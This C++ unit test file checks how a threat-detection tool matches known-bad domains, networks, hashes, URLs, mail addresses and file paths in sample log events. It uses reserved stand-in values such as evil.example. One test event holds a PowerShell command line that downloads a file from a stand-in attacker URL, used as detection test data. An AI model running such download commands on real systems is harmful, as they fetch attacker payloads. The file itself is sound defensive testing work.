#include <yaml-cpp/yaml.h>

#include <algorithm>
#include <set>

#include "base/text.hpp"
#include "given.hpp"

namespace yagura::detect::test {
namespace {

using Type = IndicatorType;

TEST(IndicatorMatcher, a_domain_holds_for_the_names_below_it_and_not_beside_it) {
  const auto store = memory_store();
  give(*store, Type::domain, "evil.example");
  EXPECT_EQ(found(*store, {{"QueryName", "evil.example"}}), "domain evil.example");
  EXPECT_EQ(found(*store, {{"QueryName", "a.b.EVIL.example."}}), "domain evil.example");
  EXPECT_EQ(found(*store, {{"QueryName", "notevil.example"}}), "");
  EXPECT_EQ(found(*store, {{"QueryName", "evil.example.org"}}), "");
  EXPECT_EQ(found(*store, {{"DestinationHostname", "www.evil.example"}}), "domain evil.example");
  EXPECT_EQ(found(*store, {{"CommandLine", "evil.example"}}), "") << "a command line holds URLs, not names";
}

TEST(IndicatorMatcher, nested_networks_all_hold) {
  const auto store = memory_store();
  for (const char* network : {"203.0.0.0/8", "203.0.113.0/24", "203.0.113.128/25", "2001:db8::/32"})
    give(*store, Type::cidr, network);
  EXPECT_EQ(found(*store, {{"DestinationIp", "203.0.113.7"}}), "cidr 203.0.0.0/8, cidr 203.0.113.0/24");
  EXPECT_EQ(found(*store, {{"DestinationIp", "::ffff:203.0.113.200"}}),
            "cidr 203.0.0.0/8, cidr 203.0.113.0/24, cidr 203.0.113.128/25");
  EXPECT_EQ(found(*store, {{"DestinationIp", "2001:db8:ffff::1"}}), "cidr 2001:db8::/32");
  EXPECT_EQ(found(*store, {{"DestinationIp", "2001:db9::1"}}), "");
}

TEST(IndicatorMatcher, sysmon_hashes_are_told_apart) {
  const auto store = memory_store();
  const std::string md5 = "0123456789abcdef0123456789abcdef";
  give(*store, Type::imphash, md5);
  EXPECT_EQ(found(*store, {{"Hashes", "MD5=" + md5}}), "") << "an imphash is no MD5 although both have 32 digits";
  EXPECT_EQ(found(*store, {{"Hashes", "SHA1=00,IMPHASH=0123456789ABCDEF0123456789ABCDEF"}}), "imphash " + md5);
  give(*store, Type::md5, md5);
  EXPECT_EQ(found(*store, {{"Hashes", "MD5=" + md5 + ",IMPHASH=" + md5}}), "md5 " + md5 + ", imphash " + md5);
  EXPECT_EQ(found(*store, {{"md5", md5}}), "md5 " + md5);
}

TEST(IndicatorMatcher, dns_answers_are_lists) {
  const auto store = memory_store();
  give(*store, Type::ip, "192.0.2.1");
  give(*store, Type::domain, "cdn.evil.example");
  EXPECT_EQ(found(*store, {{"QueryResults", "type:  5 cdn.evil.example;::ffff:192.0.2.1;"}}),
            "domain cdn.evil.example, ip 192.0.2.1");
  EXPECT_EQ(found(*store, {{"answers", "192.0.2.1"}, {"answers", "192.0.2.9"}}, "zeek", "dns"), "ip 192.0.2.1");
}

TEST(IndicatorMatcher, urls_match_whole_and_give_their_host) {
  const auto store = memory_store();
  give(*store, Type::url, "http://evil.example/gate.php?id=1");
  give(*store, Type::domain, "host.example");
  EXPECT_EQ(found(*store, {{"cs-uri", "http://EVIL.example:80/gate.php?id=1"}}),
            "url http://evil.example/gate.php?id=1");
  EXPECT_EQ(found(*store, {{"cs-uri", "https://evil.example/gate.php?id=1"}}), "url http://evil.example/gate.php?id=1");
  EXPECT_EQ(found(*store, {{"cs-uri", "http://evil.example/gate.php"}}), "");
  EXPECT_EQ(found(*store, {{"url", "https://www.host.example/any"}}), "domain host.example");
  EXPECT_EQ(found(*store, {{"CommandLine", "powershell iwr 'http://evil.example/gate.php?id=1' -o x"}}),
            "url http://evil.example/gate.php?id=1");
  EXPECT_EQ(found(*store, {{"cs-uri", "host.example:443"}}), "domain host.example") << "CONNECT";
}

TEST(IndicatorMatcher, a_url_in_parts_is_put_together) {
  const auto store = memory_store();
  give(*store, Type::url, "http://evil.example/gate.php?id=1");
  EXPECT_EQ(found(*store, {{"host", "evil.example"}, {"uri", "/gate.php?id=1"}}, "zeek", "http"),
            "url http://evil.example/gate.php?id=1");
  EXPECT_EQ(found(*store, {{"cs-uri-query", "id=1"}, {"cs-uri-stem", "/gate.php"}, {"cs-host", "evil.example"}}),
            "url http://evil.example/gate.php?id=1");
  EXPECT_EQ(found(*store, {{"cs-uri-query", "-"}, {"cs-uri-stem", "/gate.php"}, {"cs-host", "evil.example"}}), "");
}

TEST(IndicatorMatcher, a_field_means_what_its_format_says) {
  const auto store = memory_store();
  give(*store, Type::domain, "evil.example");
  EXPECT_EQ(found(*store, {{"query", "evil.example"}}, "zeek", "dns"), "domain evil.example");
  EXPECT_EQ(found(*store, {{"query", "evil.example"}}, "evtx"), "") << "LDAP queries and the like";
  EXPECT_EQ(found(*store, {{"host", "evil.example"}}, "json"), "") << "the machine that speaks";
}

TEST(IndicatorMatcher, mail_addresses_stand_in_lists_and_have_domains) {
  const auto store = memory_store();
  give(*store, Type::email, "mallory@evil.example");
  give(*store, Type::domain, "phish.example");
  EXPECT_EQ(found(*store, {{"rcptto", "<a@ok.example>,\"M\" <Mallory@EVIL.example>"}}), "email mallory@evil.example");
  EXPECT_EQ(found(*store, {{"From", "Bank <info@mail.phish.example>"}}), "domain phish.example");
}

TEST(IndicatorMatcher, files_match_by_name_and_by_path) {
  const auto store = memory_store();
  give(*store, Type::file_name, "Evil.exe");
  give(*store, Type::file_path, "C:\\Windows\\Temp\\x.dll");
  EXPECT_EQ(found(*store, {{"Image", "D:\\any\\EVIL.EXE"}}), "file_name evil.exe");
  EXPECT_EQ(found(*store, {{"ImageLoaded", "c:\\windows\\TEMP\\X.DLL"}}), "file_path c:/windows/temp/x.dll");
  EXPECT_EQ(found(*store, {{"Image", "D:\\any\\notevil.exe"}}), "");
  EXPECT_EQ(found(*store, {{"OriginalFileName", "evil.exe"}}), "file_name evil.exe");
}

TEST(IndicatorMatcher, validity_is_of_the_events_time_and_half_open) {
  const auto store = memory_store();
  Listing words = listing();
  words.valid_from = at("2026-01-01T00:00:00Z");
  words.valid_until = at("2026-02-01T00:00:00Z");
  give(*store, Type::ip, "192.0.2.1", words);
  const auto holds_at = [&](std::string_view time) {
    return !found(*store, {{"DestinationIp", "192.0.2.1"}}, "json", "", time).empty();
  };
  EXPECT_FALSE(holds_at("2025-12-31T23:59:59.999999999Z"));
  EXPECT_TRUE(holds_at("2026-01-01T00:00:00Z"));
  EXPECT_TRUE(holds_at("2026-01-31T23:59:59.999999999Z"));
  EXPECT_FALSE(holds_at("2026-02-01T00:00:00Z"));
  event::Batch batch;
  add_event(batch, {{"DestinationIp", "192.0.2.1"}}, "2020-01-01T00:00:00Z");
  EXPECT_EQ(matches_of(*store, batch, {.any_time = true}).size(), 1U);
}

TEST(IndicatorMatcher, remembers_no_value_over_a_change) {
  const auto store = memory_store();
  give(*store, Type::ip, "192.0.2.9");
  IndicatorMatcher matcher(classes());
  event::Batch batch;
  for (int i = 0; i < 200; ++i) add_event(batch, {{"DestinationIp", "192.0.2.1"}, {"Image", "C:\\a\\b.exe"}});
  std::vector<IndicatorMatch> matches;
  for (int i = 0; i < 3; ++i) matcher.match(batch, store->snapshot(), matches);
  EXPECT_TRUE(matches.empty());
  give(*store, Type::ip, "192.0.2.1");
  matcher.match(batch, store->snapshot(), matches);
  EXPECT_EQ(matches.size(), 200U);
}

TEST(IndicatorMatcher, more_distinct_values_than_it_remembers_change_nothing) {
  const auto store = memory_store();
  give(*store, Type::file_name, "evil.exe");
  IndicatorMatcher matcher(classes());
  size_t seen = 0;
  for (int round = 0; round < 3; ++round) {
    event::Batch batch;
    for (int i = 0; i < 60'000; ++i) {
      const bool evil = i % 1000 == 7;
      add_event(batch, {{"Image", "C:\\folder " + std::to_string(i % 30'000) + (evil ? "\\evil.exe" : "\\fine.exe")}});
    }
    std::vector<IndicatorMatch> matches;
    matcher.match(batch, store->snapshot(), matches);
    seen += matches.size();
  }
  EXPECT_EQ(seen, 180U);
}

TEST(IndicatorFinding, names_value_and_sources_and_takes_the_surest_level) {
  const auto store = memory_store();
  Listing sure = listing("Sure feed");
  sure.confidence = 90;
  sure.tlp = Tlp::amber;
  sure.context = "Operation X";
  sure.tags = "attack.command_and_control";
  give(*store, Type::domain, "evil.example", listing("Other feed"));
  give(*store, Type::domain, "evil.example", sure);
  event::Batch batch;
  event::Event& event = add_event(batch, {{"QueryName", "www.evil.example"}, {"User", "CORP\\sato"}});
  event.host = "PC01";
  const auto matches = matches_of(*store, batch);
  ASSERT_EQ(matches.size(), 1U);
  const Finding finding = make_finding(matches.front(), batch, "uid-1");
  EXPECT_EQ(finding.kind, FindingKind::indicator);
  EXPECT_EQ(finding.rule_title, "Indicator: domain evil.example (Sure feed, Other feed)");
  EXPECT_EQ(finding.level, Level::high);
  EXPECT_EQ(finding.tags, std::vector<std::string>{"attack.command_and_control"});
  EXPECT_EQ(finding.host, "PC01");
  EXPECT_EQ(finding.user, "CORP\\sato");
  EXPECT_EQ(finding.rule_id, indicator_rule_id(Type::domain, "evil.example"));
  EXPECT_TRUE(finding.rule_id.starts_with("indicator:domain:"));
  const std::pair<std::string, std::string> first("QueryName", "www.evil.example");
  EXPECT_EQ(finding.fields.front(), first);
  EXPECT_EQ(make_finding(matches.front(), batch, "uid-1").id, finding.id);
  EXPECT_NE(make_finding(matches.front(), batch, "uid-2").id, finding.id);
}

TEST(IndicatorFinding, tells_nothing_of_what_is_tlp_red) {
  const auto store = memory_store();
  Listing red = listing("Secret friends");
  red.tlp = Tlp::red;
  red.context = "secret";
  give(*store, Type::domain, "evil.example", red);
  event::Batch batch;
  add_event(batch, {{"QueryName", "www.evil.example"}});
  const Finding finding = make_finding(matches_of(*store, batch).at(0), batch, "uid");
  EXPECT_EQ(finding.rule_title, "Indicator: domain (TLP:RED)");
  for (const auto& [name, value] : finding.fields) {
    EXPECT_EQ(value.find("Secret"), std::string::npos);
    EXPECT_EQ(value.find("secret"), std::string::npos);
  }
}

TEST(FieldClasses, know_every_field_that_the_mappings_take_for_something_an_indicator_can_be) {
  const std::set<std::string> attributes{"src_endpoint.ip",
                                         "dst_endpoint.ip",
                                         "src_endpoint.hostname",
                                         "dst_endpoint.hostname",
                                         "query.hostname",
                                         "answers.rdata",
                                         "http_request.url.url_string",
                                         "http_request.url.hostname",
                                         "tls.sni",
                                         "file.hashes.md5",
                                         "file.hashes.sha1",
                                         "file.hashes.sha256",
                                         "file.hashes.imphash",
                                         "hashes",
                                         "process.file.path",
                                         "actor.process.file.path",
                                         "file.path",
                                         "file.name",
                                         "module.file.path"};
  // Names of logs, pipes, devices and NetBIOS domains, folders: nothing that lists hold.
  const std::set<std::string> others{"Channel",  "Configuration",  "Device",           "LogFileCleared.Channel",
                                     "PipeName", "ShareLocalPath", "TargetDomainName", "cwd"};
  const std::filesystem::path folder = std::filesystem::path(YAGURA_SOURCE_DIR) / "catalog/mappings";
  size_t seen = 0;
  for (const auto& file : std::filesystem::directory_iterator(folder))
    for (const YAML::Node& rule : YAML::LoadFile(file.path().string())["rules"])
      for (const auto& field : rule["fields"]) {
        const std::string name = field.first.as<std::string>();
        const auto maps = [&](const YAML::Node& target) { return attributes.contains(target.as<std::string>()); };
        const bool meant = field.second.IsSequence() ? std::any_of(field.second.begin(), field.second.end(), maps)
                                                     : maps(field.second);
        if (!meant || others.contains(name)) continue;
        ++seen;
        EXPECT_NE(classes()->group_of(event::known_field(name)), 0) << name << " of " << file.path().filename();
      }
  EXPECT_GT(seen, 100U);
}

}  // namespace
}  // namespace yagura::detect::test
